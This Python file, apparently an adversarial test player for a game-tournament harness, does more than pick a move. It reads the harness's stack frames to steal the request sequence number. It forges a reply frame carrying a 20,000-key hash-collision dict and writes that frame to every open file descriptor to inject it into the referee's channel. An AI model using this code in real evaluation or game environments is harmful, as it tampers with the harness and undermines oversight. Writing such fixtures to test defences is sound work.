"""Writes its own reply frame: an answer that is a dict of 20,000 int keys all hashing to 0 (few enough separators to be parsed, then refused by the dict cap)."""
import os, struct, sys

M = 2 ** 61 - 1  # CPython hashes every multiple of this to 0: building such a dict is quadratic


def step(spel):
    """The smallest legal step (the seed's basic strategy)."""
    for k in range(1, spel.N + 1):
        n = spel.positie + k
        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
            return k
    return 1


def current_seq():
    for f in sys._current_frames().values():
        while f is not None:
            request = f.f_locals.get("request")
            if isinstance(request, dict) and "seq" in request:
                return request["seq"]
            f = f.f_back
    return None


class Player:
    def __init__(self, name):
        self.name = name

    def zet(self, spel):
        pairs = b",".join(b"[%d,0]" % (M * k) for k in range(20_000))
        body = b'{"ok":true,"cpu":0.0,"seq":%d,"value":{"$d":[%s]}}' % (current_seq(), pairs)
        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack(">I", len(body)) + body)
            except OSError:
                pass
        return step(spel)
